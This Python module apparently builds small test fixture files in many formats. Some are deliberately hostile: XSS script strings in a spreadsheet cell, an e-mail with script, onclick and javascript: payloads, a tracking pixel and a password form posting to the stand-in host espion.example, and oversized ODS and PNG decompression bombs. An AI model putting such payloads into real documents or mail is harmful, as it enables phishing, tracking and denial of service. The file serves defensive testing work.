"""Small real files of each kind, made by the libraries that people's programs use."""

import io
import struct
import wave
import zipfile
from email.message import EmailMessage

from docx import Document as Docx
from odf.opendocument import OpenDocumentSpreadsheet, OpenDocumentText
from odf.table import Table, TableCell, TableRow
from odf.text import H, P
from openpyxl import Workbook
from PIL import Image
from pptx import Presentation
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

WORDS = "La passerelle du marais audomarois"
PLACE = (50.75, 2.25)


def pdf(pages: int = 3, password: str = "") -> bytes:
    """A PDF whose pages say their number."""
    out = io.BytesIO()
    canvas = Canvas(out, encrypt=StandardEncryption(password) if password else None)
    for number in range(1, pages + 1):
        canvas.drawString(72, 700, f"{WORDS}, page {number}")
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def photo() -> bytes:
    """A JPEG lying on its side, 60 by 40, that tells where it was taken."""
    image = Image.new("RGB", (60, 40), "red")
    image.paste("blue", (0, 0, 30, 40))
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Appareil de la mairie"
    exif.get_ifd(0x8825)[2] = (*PLACE, 0.0)
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def docx() -> bytes:
    out = io.BytesIO()
    document = Docx()
    document.add_heading("Compte rendu", 1)
    document.add_paragraph(WORDS)
    table = document.add_table(1, 2)
    table.cell(0, 0).text, table.cell(0, 1).text = "Présents", "Douze"
    document.save(out)
    return out.getvalue()


def xlsx() -> bytes:
    out = io.BytesIO()
    book = Workbook()
    book.active.title = "Budget"
    book.active.append(["Poste", WORDS])
    book.active.append(["<script>alert(1)</script>", 1200])
    book.save(out)
    return out.getvalue()


def pptx() -> bytes:
    out = io.BytesIO()
    slides = Presentation()
    slides.slides.add_slide(slides.slide_layouts[0]).shapes.title.text = WORDS
    slides.save(out)
    return out.getvalue()


def odt() -> bytes:
    out = io.BytesIO()
    text = OpenDocumentText()
    text.text.addElement(H(outlinelevel=1, text="Compte rendu"))
    text.text.addElement(P(text=WORDS))
    text.write(out)
    return out.getvalue()


def ods() -> bytes:
    out = io.BytesIO()
    sheet = OpenDocumentSpreadsheet()
    table = Table(name="Passerelles")
    row = TableRow()
    cell = TableCell()
    cell.addElement(P(text=WORDS))
    row.addElement(cell)
    # A million empty cells and rows, as every spreadsheet program writes them.
    row.addElement(TableCell(numbercolumnsrepeated=16384))
    table.addElement(row)
    table.addElement(TableRow(numberrowsrepeated=1048576))
    sheet.spreadsheet.addElement(table)
    sheet.write(out)
    return out.getvalue()


def eml() -> bytes:
    """An e-mail that would like to run, to look outside and to be told when it is read."""
    message = EmailMessage()
    message["Subject"] = "Réunion de mars"
    message["From"] = "Mairie <mairie@exemple.fr>"
    message["To"] = "bob@exemple.fr"
    message.set_content("Bonjour")
    html = (
        f"<html><head><style>p {{}}</style></head><body><h1>Ordre du jour</h1><p onclick='alert(1)'>{WORDS}</p>"
        "<img src='https://espion.example/vu.gif'><script>alert(1)</script><a href='javascript:alert(1)'>ici</a>"
        "<form action='https://espion.example/'><input name='mdp'></form></body></html>"
    )
    message.add_alternative(html, subtype="html")
    message.add_attachment(b"x" * 2048, maintype="application", subtype="pdf", filename="plan-de-salle.pdf")
    return message.as_bytes()


def wav() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(struct.pack("<800h", *([0] * 800)))
    return out.getvalue()


def packed(members: dict[str, bytes]) -> bytes:
    """A zip of these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def wide_png(width: int, height: int) -> bytes:
    """A PNG of a few bytes that unfolds to so many dots."""
    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, "PNG")
    return out.getvalue()
